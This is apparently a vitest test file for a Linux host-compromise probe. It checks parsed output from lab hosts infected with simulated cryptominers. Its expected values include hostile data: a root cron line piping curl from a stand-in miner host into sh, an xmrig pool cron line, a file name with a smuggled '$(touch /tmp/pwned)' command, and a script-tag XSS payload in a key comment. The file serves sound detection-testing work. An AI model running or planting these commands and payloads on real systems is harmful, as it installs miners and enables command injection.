import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parseProbeOutput } from '../../../src/probe/parse-output.js';
import { sections as allSections } from '../../../src/probe/sections/index.js';
// these fixtures were recorded before the integrity and markers sections existed
const recorded = allSections.filter((s) => s.name !== 'integrity' && s.name !== 'markers');

// Real probe output from lab hosts (test/fixtures/probe/record-lab.sh on `minesweep lab up`, 11 scenarios).
const dir = path.join(path.dirname(fileURLToPath(import.meta.url)), '../../fixtures/probe');
const facts = (scenario: string) => parseProbeOutput(readFileSync(path.join(dir, `${scenario}.out`)), { host: scenario, sections: recorded });
// the lab's subnet at recording time (measure.txt: one line per host, its address second); the pool is .254
const net = /^\S+ (\d+\.\d+\.\d+)\.\d+ /m.exec(readFileSync(path.join(dir, 'measure.txt'), 'utf8'))![1]!;
const SCENARIOS = ['clean', 'clean-busy', 'redis', 'ddg', 'kinsing', 'outlaw', 'cleanfda', 'aliyunduns', 'skidmap', 'hostile', 'pivot'];

describe.each(SCENARIOS)('lab host %s', (scenario) => {
  const f = facts(scenario);
  it('every section parses, nothing cut', () => {
    expect(f.meta.errors).toEqual([]);
    expect(f.meta.truncated).toEqual([]);
    expect(Object.keys(f.meta.sectionMs ?? {})).toContain('processes');
    expect(f.processes.length).toBeGreaterThan(2);
    expect(f.accounts.some((a) => a.name === 'root' && a.uid === 0)).toBe(true);
    expect(f.sockets.some((s) => s.state === 'LISTEN' && s.localPort === 22 && s.process === 'sshd')).toBe(true);
    expect(f.iptables.available).toBe(true);
    expect(f.units.length).toBeGreaterThan(10);
    expect(f.authorizedKeys.some((k) => k.keys.length > 0)).toBe(true);
  });
});

describe('lab scenarios as the probe sees them', () => {
  it('redis: minerd from /var/tmp, open Redis on 6380, its firewall rule, the night cron', () => {
    const f = facts('redis');
    const minerd = f.processes.find((p) => p.comm === 'minerd');
    expect(minerd?.exe).toBe('/var/tmp/minerd');
    expect(minerd?.exeSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(f.sockets.some((s) => s.pid === minerd!.pid && s.remotePort === 3333)).toBe(true);
    expect(f.redis[0]).toMatchObject({ requirepassSet: false, protectedMode: 'no', unauthenticated: true, configPath: '/etc/redis/redis.conf' });
    expect(f.redis[0]!.listen).toContain('0.0.0.0:6380');
    expect(f.iptables.rules).toContain('-A INPUT -p tcp -m tcp --dport 6380 -j ACCEPT');
    expect(f.cron.find((c) => c.path === '/var/spool/cron/crontabs/root')?.content).toContain('*/5 19-23,0-7 * * * curl -fsSL http://pm.cpuminerpool.invalid:8080/api/report?pm=0798 | sh');
    expect(f.etcHosts?.content).toContain(`${net}.254 pm.cpuminerpool.invalid`);
  });

  it('kinsing: ld.so.preload, bot.service ExecStart, kdevtmpfsi from /tmp', () => {
    const f = facts('kinsing');
    expect(f.ldPreload?.content).toContain('/etc/libsystem.so');
    expect(f.units.find((u) => u.name === 'bot.service')?.execStart).toEqual(['/etc/kinsing']);
    expect(f.processes.find((p) => p.comm === 'kdevtmpfsi')?.exe).toBe('/tmp/kdevtmpfsi');
  });

  it('cleanfda: renamed ps/top/pstree, immutable cron and upat.sh, hidden miner found', () => {
    const f = facts('cleanfda');
    expect(f.renamedBinaries.map((r) => r.replacement).sort()).toEqual(['/usr/bin/ps', '/usr/bin/pstree', '/usr/bin/top']);
    expect(f.renamedBinaries.every((r) => r.replacementSha256.length === 64)).toBe(true);
    expect(f.attributes['/etc/cron.d/httpd2']).toContain('i');
    expect(f.attributes['/var/spool/cron/crontabs/root']).toContain('i');
    expect(f.knownPaths?.some((k) => k.path === '/etc/upat.sh')).toBe(true);
    expect(f.processes.find((p) => p.comm === 'httpd2')?.exe).toBe('/usr/local/lib/.httpd2/httpd2');
    expect(f.authorizedKeys.flatMap((a) => a.keys).some((k) => k.comment === 'root@kali')).toBe(true);
  });

  it('hostile: a cron file named with $(…), quotes and a newline comes back byte-exact, and key comments with markup', () => {
    const f = facts('hostile');
    const name = `/etc/cron.d/upd $(touch /tmp/pwned) 'q' "dq"\nnl`;
    expect(f.cron.find((c) => c.path === name)?.content).toContain(`*/10 * * * * root /dev/shm/.x/xmrig -o stratum+tcp://${net}.254:3333`);
    expect(f.authorizedKeys.flatMap((a) => a.keys).some((k) => k.comment === `<script>alert(1)</script> "x'y"`)).toBe(true);
    expect(f.processes.find((p) => p.comm === 'xmrig')?.exe).toBe('/dev/shm/.x/xmrig');
  });

  it('clean-busy: a busy java from its packaged path, not hashed', () => {
    const java = facts('clean-busy').processes.find((p) => p.comm === 'java');
    expect(java?.exe).toMatch(/^\/usr\/lib\/jvm\//);
    expect(java?.cpuPercent).toBeGreaterThan(5);
    expect(java?.exeSha256).toBe('');
  });
});
